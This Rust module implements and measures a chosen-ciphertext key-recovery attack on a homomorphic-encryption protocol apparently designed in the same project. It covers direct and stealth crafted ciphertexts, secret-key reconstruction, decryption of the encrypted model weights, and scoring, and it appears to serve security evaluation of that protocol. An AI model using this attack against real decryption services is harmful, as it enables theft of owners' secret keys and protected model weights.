//! The key-recovery attack of a malicious user against the owner-keyed protocol (issue 13,
//! `shared/spec/code-review.md` §4.5), built from what a user holds: the encrypted model, the
//! public evaluation keys and the decryption service.
//!
//! [`OwnerSession::answer`](crate::protocol::OwnerSession::answer) decrypts every well-formed
//! ciphertext and returns its SIMD-decoded slots. Per CRT residue (plaintext modulus `t`, last
//! ciphertext prime `q0`), the crafted ciphertext `(c0, c1) = (0, Δ)` with the constant
//! `Δ = ⌈q0/t⌋` has the phase `c0 + c1·s = Δ·s`, which decrypts to `s mod t` coefficient-wise
//! (`|sᵢ| ≤ 20` under fhe's CBD(10), far below `t/2`). The owner returns the SIMD decoding of
//! that polynomial; re-encoding the slots with the public SIMD encoding gives the coefficients
//! back, and centring them gives `s`. One request carries one ciphertext per residue, so one
//! request recovers every key.
//!
//! * [`CraftVariant::Direct`]: exactly `(0, Δ)`.
//! * [`CraftVariant::Stealth`]: an honest-looking blinded ciphertext (`Enc_pk(r)` of a uniform
//!   slot mask, switched to the last level like every request) with `Δ` added to `c1`; it
//!   decrypts to `r + s`, and the attacker removes its own mask `r`. Its distribution is that of
//!   an honest request, so no check on the shape of requests can tell it apart.
//!
//! With the keys, the shipped packed weights decrypt in clear ([`RecoveredKey::decrypt_weights`]).
//! Scoring against the owner's true key and block ([`score_key`], [`RecoveredWeights::score`]) is
//! separate from the attacker's path and only used to measure it.

use std::sync::Arc;

use fhe::bfv::{BfvParameters, Ciphertext, Encoding, Plaintext, PublicKey, SecretKey};
use fhe_math::rq::traits::TryConvertFrom;
use fhe_math::rq::{Poly, Representation};
use fhe_traits::{DeserializeParametrized, FheDecoder, FheDecrypter, FheEncoder, FheEncrypter};
use rand::{CryptoRng, Rng, RngCore};
use serde::{Deserialize, Serialize};

use crate::block::IntBlock;
use crate::compact::compress;
use crate::packing::mul_mod;
use crate::params::HeParams;
use crate::protocol::{EncryptedBlock, OwnerSecret, PublicKeys, Reply, Request};
use crate::{HeError, Result};

mod proto;
use proto::{decode_key_proto, encode_key_proto};

/// Largest |coefficient| of a secret key sampled by fhe 0.1.1 (CBD with variance 10: ±2·10).
pub const SECRET_COEFFICIENT_BOUND: i64 = 20;

/// How the crafted ciphertext looks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum CraftVariant {
    /// `c0 = 0`, `c1 = ⌈q0/t⌋` (constant polynomial).
    Direct,
    /// `Enc_pk(r)` at the last level with `⌈q0/t⌋` added to `c1`: decrypts to `r + s`.
    Stealth,
}

impl CraftVariant {
    /// Both variants.
    pub const ALL: [CraftVariant; 2] = [CraftVariant::Direct, CraftVariant::Stealth];

    /// Lower-case name.
    pub fn name(self) -> &'static str {
        match self {
            CraftVariant::Direct => "direct",
            CraftVariant::Stealth => "stealth",
        }
    }
}

/// A crafted decryption request and what the attacker keeps to read the reply.
pub struct CraftedRequest {
    /// The request, in the protocol's message type (serialise with `protocol::to_wire`).
    pub request: Request,
    /// Parameter sets, one per residue (from the public keys).
    params: Vec<HeParams>,
    /// Per residue, the stealth variant's slot mask (`None` for the direct variant).
    masks: Vec<Option<Vec<u64>>>,
}

/// `⌈q/t⌋`.
fn delta(q: u64, t: u64) -> u64 {
    ((q as u128 + t as u128 / 2) / t as u128) as u64
}

fn decode_err(what: &'static str) -> impl Fn(fhe::Error) -> HeError {
    move |e| HeError::Decode {
        what,
        detail: e.to_string(),
    }
}

/// The constant polynomial `Δ` at the last level, in NTT form.
fn constant_at_last_level(par: &Arc<BfvParameters>) -> Result<(Poly, usize)> {
    let level = par.max_level();
    let ctx = par.context_at_level(level)?;
    let mut coeffs = vec![0u64; par.degree()];
    coeffs[0] = delta(ctx.moduli()[0], par.plaintext());
    let mut poly = Poly::try_convert_from(&coeffs, ctx, false, Representation::PowerBasis)?;
    poly.change_representation(Representation::Ntt);
    Ok((poly, level))
}

/// Builds the one-ciphertext-per-residue request of `variant` from the public keys only.
pub fn craft_request<R: RngCore + CryptoRng>(
    keys: &PublicKeys,
    variant: CraftVariant,
    rng: &mut R,
) -> Result<CraftedRequest> {
    if keys.params.is_empty() || keys.sets.len() != keys.params.len() {
        return Err(HeError::Parameters(
            "public keys without one key set per parameter set".into(),
        ));
    }
    let (mut cts, mut masks) = (Vec::new(), Vec::new());
    for (hp, set) in keys.params.iter().zip(&keys.sets) {
        let par = hp.build()?;
        let (d, level) = constant_at_last_level(&par)?;
        let (ct, mask) = match variant {
            CraftVariant::Direct => {
                let c0 = Poly::zero(d.ctx(), Representation::Ntt);
                (Ciphertext::new(vec![c0, d], &par)?, None)
            }
            CraftVariant::Stealth => {
                let pk = PublicKey::from_bytes(&set.public_key, &par)
                    .map_err(decode_err("public key"))?;
                let t = hp.plaintext;
                let mask: Vec<u64> = (0..hp.degree).map(|_| rng.random_range(0..t)).collect();
                let pt = Plaintext::try_encode(&mask, Encoding::simd(), &par)?;
                let mut honest: Ciphertext = pk.try_encrypt(&pt, rng)?;
                honest.switch_to_level(level)?;
                let mut c1 = honest[1].clone();
                c1 += &d;
                (
                    Ciphertext::new(vec![honest[0].clone(), c1], &par)?,
                    Some(mask),
                )
            }
        };
        cts.push(vec![compress(&ct, &par)?]);
        masks.push(mask);
    }
    Ok(CraftedRequest {
        request: Request { cts },
        params: keys.params.clone(),
        masks,
    })
}

/// Coefficients of the plaintext whose SIMD decoding is `slots`, through fhe's public API only:
/// fhe has no accessor for an encoded plaintext's coefficients, but a plaintext decrypted with
/// a key of one's own carries no encoding and decodes as `Encoding::poly()`.
fn simd_to_coefficients<R: RngCore + CryptoRng>(
    par: &Arc<BfvParameters>,
    slots: &[u64],
    rng: &mut R,
) -> Result<Vec<u64>> {
    let own = SecretKey::random(par, rng);
    let pt = Plaintext::try_encode(slots, Encoding::simd(), par)?;
    let ct: Ciphertext = own.try_encrypt(&pt, rng)?;
    let back = own.try_decrypt(&ct)?;
    Ok(Vec::<u64>::try_decode(&back, Encoding::poly())?)
}

/// Secret keys reconstructed from the owner's reply (one per CRT residue).
#[derive(Debug, Clone)]
pub struct RecoveredKey {
    /// Parameter sets.
    pub params: Vec<HeParams>,
    /// Centred key coefficients per residue.
    pub coeffs: Vec<Vec<i64>>,
}

/// Reads the owner's reply to a [`CraftedRequest`]: slots → coefficients → centred `s`.
pub fn recover_key<R: RngCore + CryptoRng>(
    crafted: &CraftedRequest,
    reply: &Reply,
    rng: &mut R,
) -> Result<RecoveredKey> {
    let slots = reply.slots()?;
    if slots.len() != crafted.params.len() || slots.iter().any(|per| per.len() != 1) {
        return Err(HeError::shape(
            "the reply does not answer one ciphertext per residue",
        ));
    }
    let mut coeffs = Vec::with_capacity(slots.len());
    for ((hp, per), mask) in crafted.params.iter().zip(&slots).zip(&crafted.masks) {
        let t = hp.plaintext;
        if per[0].len() != hp.degree {
            return Err(HeError::shape(format!(
                "{} slots in the reply, {} expected",
                per[0].len(),
                hp.degree
            )));
        }
        let unmasked: Vec<u64> = match mask {
            Some(r) => per[0]
                .iter()
                .zip(r)
                .map(|(&v, &m)| (v % t + t - m) % t)
                .collect(),
            None => per[0].iter().map(|&v| v % t).collect(),
        };
        let par = hp.build()?;
        let c = simd_to_coefficients(&par, &unmasked, rng)?;
        coeffs.push(c.into_iter().map(|v| hp.decode_signed(v % t)).collect());
    }
    Ok(RecoveredKey {
        params: crafted.params.clone(),
        coeffs,
    })
}

impl RecoveredKey {
    /// Coefficients per residue.
    pub fn coefficient_count(&self) -> usize {
        self.coeffs.iter().map(Vec::len).sum()
    }

    /// Largest |coefficient| (≤ [`SECRET_COEFFICIENT_BOUND`] for a genuine fhe key).
    pub fn max_abs(&self) -> i64 {
        self.coeffs
            .iter()
            .flatten()
            .map(|c| c.abs())
            .max()
            .unwrap_or(0)
    }

    /// fhe's serialisation of residue `i`'s key (the bytes `secret_key.bin` stores).
    pub fn secret_key_bytes(&self, i: usize) -> Result<Vec<u8>> {
        let c = self
            .coeffs
            .get(i)
            .ok_or_else(|| HeError::shape(format!("no residue {i}")))?;
        Ok(encode_key_proto(c))
    }

    /// Usable fhe secret keys (each with its own parameter instance).
    pub fn secret_keys(&self) -> Result<Vec<(Arc<BfvParameters>, SecretKey)>> {
        (0..self.coeffs.len())
            .map(|i| {
                let par = self.params[i].build()?;
                let sk = SecretKey::from_bytes(&self.secret_key_bytes(i)?, &par)
                    .map_err(decode_err("recovered secret key"))?;
                Ok((par, sk))
            })
            .collect()
    }

    /// Attacker-side check with public information only: per residue, a random slot vector
    /// encrypted under the owner's public key decrypts correctly with the recovered key.
    pub fn verify<R: RngCore + CryptoRng>(
        &self,
        keys: &PublicKeys,
        rng: &mut R,
    ) -> Result<Vec<bool>> {
        self.secret_keys()?
            .iter()
            .zip(&self.params)
            .zip(&keys.sets)
            .map(|(((par, sk), hp), set)| {
                let pk = PublicKey::from_bytes(&set.public_key, par)
                    .map_err(decode_err("public key"))?;
                let probe: Vec<u64> = (0..hp.degree)
                    .map(|_| rng.random_range(0..hp.plaintext))
                    .collect();
                let pt = Plaintext::try_encode(&probe, Encoding::simd(), par)?;
                let ct: Ciphertext = pk.try_encrypt(&pt, rng)?;
                let back = Vec::<u64>::try_decode(&sk.try_decrypt(&ct)?, Encoding::simd())?;
                Ok(back == probe)
            })
            .collect()
    }

    /// Decrypts the shipped packed weights and recombines the CRT residues.
    pub fn decrypt_weights(&self, enc: &EncryptedBlock) -> Result<RecoveredWeights> {
        if enc.params != self.params || enc.packed.len() != self.params.len() {
            return Err(HeError::Parameters(
                "the encrypted model and the recovered key come from different key generations"
                    .into(),
            ));
        }
        let count = enc.weight_count();
        let mut residues: Vec<Vec<i64>> = Vec::with_capacity(self.params.len());
        for ((par, sk), (hp, packed)) in self
            .secret_keys()?
            .iter()
            .zip(self.params.iter().zip(&enc.packed))
        {
            let t = hp.plaintext;
            let chunk = enc.chunk as u64 % t;
            let mut values = Vec::with_capacity(count);
            for bytes in packed {
                let ct =
                    Ciphertext::from_bytes(bytes, par).map_err(decode_err("packed weights"))?;
                let coeffs = Vec::<u64>::try_decode(&sk.try_decrypt(&ct)?, Encoding::poly())?;
                values.extend(
                    coeffs
                        .iter()
                        .take(enc.chunk)
                        .map(|&c| hp.decode_signed(mul_mod(c, chunk, t))),
                );
            }
            if values.len() < count {
                return Err(HeError::shape(format!(
                    "{} packed values for {count} weights",
                    values.len()
                )));
            }
            values.truncate(count);
            residues.push(values);
        }
        let values = (0..count)
            .map(|k| {
                let r: Vec<i64> = residues.iter().map(|v| v[k]).collect();
                HeParams::crt_combine(&self.params, &r) as i64
            })
            .collect();
        let s = &enc.plain.shape;
        Ok(RecoveredWeights {
            values,
            s1: enc.s1.clone(),
            s2: enc.s2.clone(),
            w1_len: s.w1_len(),
            w2_len: s.w2_len(),
        })
    }
}

/// The selected filters' integer weights, decrypted by the attacker.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RecoveredWeights {
    /// Packing order: per selected layer-1 channel its weights then bias, then per selected
    /// layer-2 filter its weights then bias.
    pub values: Vec<i64>,
    /// Selected layer-1 channels.
    pub s1: Vec<usize>,
    /// Selected layer-2 filters.
    pub s2: Vec<usize>,
    /// Weights of one layer-1 channel.
    pub w1_len: usize,
    /// Weights of one layer-2 filter.
    pub w2_len: usize,
}

/// (weights, bias) of one filter.
pub type Filter<'a> = (&'a [i64], i64);

impl RecoveredWeights {
    /// Selected layer-1 channel `k` (the `k`-th of `s1`).
    pub fn layer1(&self, k: usize) -> Option<Filter<'_>> {
        let start = k.checked_mul(self.w1_len + 1)?;
        self.filter(start, self.w1_len)
            .filter(|_| k < self.s1.len())
    }

    /// Selected layer-2 filter `k` (the `k`-th of `s2`).
    pub fn layer2(&self, k: usize) -> Option<Filter<'_>> {
        let start = self.s1.len() * (self.w1_len + 1) + k.checked_mul(self.w2_len + 1)?;
        self.filter(start, self.w2_len)
            .filter(|_| k < self.s2.len())
    }

    fn filter(&self, start: usize, len: usize) -> Option<Filter<'_>> {
        let w = self.values.get(start..start + len)?;
        Some((w, *self.values.get(start + len)?))
    }

    /// Scoring only: weights equal to the owner's true block, out of all of them.
    pub fn score(&self, truth: &IntBlock) -> Result<(usize, usize)> {
        let mut expected: Vec<(&[i64], i64)> = Vec::new();
        let (l1, l2) = (self.w1_len, self.w2_len);
        for &c in &self.s1 {
            let w = truth.w1.get(c * l1..(c + 1) * l1);
            expected.push((
                w.unwrap_or(&[]),
                truth.b1.get(c).copied().unwrap_or(i64::MIN),
            ));
        }
        for &j in &self.s2 {
            let w = truth.w2.get(j * l2..(j + 1) * l2);
            expected.push((
                w.unwrap_or(&[]),
                truth.b2.get(j).copied().unwrap_or(i64::MIN),
            ));
        }
        let got = (0..self.s1.len())
            .map(|k| self.layer1(k))
            .chain((0..self.s2.len()).map(|k| self.layer2(k)));
        let (mut same, mut total) = (0, 0);
        for ((ew, eb), g) in expected.iter().zip(got) {
            let Some((gw, gb)) = g else {
                return Err(HeError::shape(
                    "recovered weights shorter than the selection",
                ));
            };
            if ew.len() != gw.len() {
                return Err(HeError::shape("the true block has another shape"));
            }
            same += ew.iter().zip(gw).filter(|(a, b)| a == b).count() + usize::from(*eb == gb);
            total += ew.len() + 1;
        }
        Ok((same, total))
    }
}

/// How the recovered key compares with the owner's.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct KeyScore {
    /// Coefficients equal to the true key's.
    pub recovered: usize,
    /// All coefficients (every residue).
    pub total: usize,
    /// Whether the re-serialised keys equal the owner's `secret_key.bin` entries byte for byte.
    pub bytes_identical: bool,
}

/// Scoring only: compares the recovered key with the owner's secret.
pub fn score_key(rec: &RecoveredKey, truth: &OwnerSecret) -> Result<KeyScore> {
    if truth.params != rec.params {
        return Err(HeError::Parameters(
            "the owner's secret has other parameters".into(),
        ));
    }
    let (mut recovered, mut total, mut bytes_identical) = (0, 0, true);
    for (i, (bytes, got)) in truth.secret_keys.iter().zip(&rec.coeffs).enumerate() {
        let want = decode_key_proto(bytes)?;
        total += want.len();
        recovered += want.iter().zip(got).filter(|(a, b)| a == b).count();
        bytes_identical &= rec.secret_key_bytes(i)? == bytes.as_slice();
    }
    Ok(KeyScore {
        recovered,
        total,
        bytes_identical,
    })
}

/// What one transport exchange returned: the reply bytes and the bytes on the wire.
pub struct Exchanged {
    /// Serialised [`Reply`].
    pub reply: Vec<u8>,
    /// Bytes sent for the request (whole frames over TCP; the message alone in process).
    pub bytes_sent: u64,
    /// Bytes received with the reply.
    pub bytes_received: u64,
}

/// The measured attack (the `key_recovery` record of the attack metrics).
#[derive(Debug, Clone, Serialize)]
pub struct KeyRecoveryReport {
    /// Protocol mode attacked.
    pub mode: String,
    /// Crafted-ciphertext variant.
    pub variant: CraftVariant,
    /// Decryption requests sent.
    pub requests: usize,
    /// Requests the owner decrypted.
    pub requests_decrypted: usize,
    /// Crafted ciphertexts (one per CRT residue).
    pub ciphertexts: usize,
    /// Bytes sent for the crafted requests.
    pub bytes_sent: u64,
    /// Bytes received with the replies.
    pub bytes_received: u64,
    /// Crafting, exchange, key reconstruction, verification and weight decryption.
    pub seconds: f64,
    /// Key coefficients (all residues).
    pub key_coefficients: usize,
    /// Largest |recovered coefficient| (≤ 20 for a genuine key).
    pub max_abs_coefficient: i64,
    /// The attacker's own check: encryptions under the public key decrypt with the recovered key.
    pub key_verified_with_public_key: bool,
    /// Encrypted weights shipped in the model.
    pub encrypted_weights: usize,
    /// Scoring (owner's files): coefficients equal to the true key.
    pub key_coefficients_recovered: Option<usize>,
    /// Scoring: fraction of the true key recovered.
    pub key_fraction: Option<f64>,
    /// Scoring: the recovered key re-serialised equals `secret_key.bin`'s keys byte for byte.
    pub key_bytes_identical: Option<bool>,
    /// Scoring: decrypted weights equal to the owner's quantised block.
    pub weights_recovered_exactly: Option<usize>,
    /// Scoring: fraction of the encrypted weights recovered exactly.
    pub weights_fraction: Option<f64>,
}

impl KeyRecoveryReport {
    /// Fills the scoring fields from the owner's secret and true block.
    pub fn score(
        &mut self,
        outcome: &AttackOutcome,
        secret: &OwnerSecret,
        block: &IntBlock,
    ) -> Result<()> {
        let k = score_key(&outcome.key, secret)?;
        let (same, total) = outcome.weights.score(block)?;
        self.key_coefficients_recovered = Some(k.recovered);
        self.key_fraction = Some(k.recovered as f64 / k.total.max(1) as f64);
        self.key_bytes_identical = Some(k.bytes_identical);
        self.weights_recovered_exactly = Some(same);
        self.weights_fraction = Some(same as f64 / total.max(1) as f64);
        Ok(())
    }
}

/// Everything the attacker ends up with.
pub struct AttackOutcome {
    /// The owner's secret keys.
    pub key: RecoveredKey,
    /// The selected filters' weights.
    pub weights: RecoveredWeights,
    /// Measurements (scoring fields empty until [`KeyRecoveryReport::score`]).
    pub report: KeyRecoveryReport,
}

/// The whole attack with one crafted request; `send` moves the serialised request to the owner
/// and returns its serialised reply (in process, or over the wire protocol).
pub fn run_attack<R, E, F>(
    enc: &EncryptedBlock,
    keys: &PublicKeys,
    variant: CraftVariant,
    rng: &mut R,
    send: F,
) -> std::result::Result<AttackOutcome, E>
where
    R: RngCore + CryptoRng,
    E: From<HeError>,
    F: FnOnce(Vec<u8>) -> std::result::Result<Exchanged, E>,
{
    let clock = std::time::Instant::now();
    let crafted = craft_request(keys, variant, rng)?;
    let ciphertexts = crafted.request.cts.iter().map(Vec::len).sum();
    let exchanged = send(crate::protocol::to_wire(&crafted.request)?)?;
    let reply: Reply = crate::protocol::from_wire(&exchanged.reply, "reply")?;
    let key = recover_key(&crafted, &reply, rng)?;
    let verified = key.verify(keys, rng)?.iter().all(|&v| v);
    let weights = key.decrypt_weights(enc)?;
    let report = KeyRecoveryReport {
        mode: "owner-keyed".into(),
        variant,
        requests: 1,
        requests_decrypted: 1,
        ciphertexts,
        bytes_sent: exchanged.bytes_sent,
        bytes_received: exchanged.bytes_received,
        seconds: clock.elapsed().as_secs_f64(),
        key_coefficients: key.coefficient_count(),
        max_abs_coefficient: key.max_abs(),
        key_verified_with_public_key: verified,
        encrypted_weights: enc.weight_count(),
        key_coefficients_recovered: None,
        key_fraction: None,
        key_bytes_identical: None,
        weights_recovered_exactly: None,
        weights_fraction: None,
    };
    Ok(AttackOutcome {
        key,
        weights,
        report,
    })
}
